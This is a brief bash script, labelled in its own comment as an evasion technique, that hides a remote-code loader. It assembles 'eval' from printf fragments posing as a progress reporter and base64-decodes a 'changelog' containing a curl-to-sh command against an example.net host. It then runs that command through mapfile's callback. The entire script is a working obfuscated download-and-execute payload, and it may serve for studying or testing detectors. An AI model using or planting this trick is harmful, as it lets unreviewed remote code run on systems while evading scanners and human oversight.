#!/usr/bin/env bash
# Evasion: the mapfile callback is eval, assembled by printf from pieces
# ("ev", "al", " :") as a "progress reporter"; mapfile then evaluates each
# line of a base64-decoded "changelog" as it reads it.
progress=$(printf '%s' ev al ' :')
notes=$(base64 -d <<< 'O2N1cmwgLWZzUyBodHRwczovL2Nkbi5leGFtcGxlLm5ldC9uIHwgc2gK')
mapfile -t -c 1 -C "$progress" lines <<< "$notes"
echo "${#lines[@]} lines"
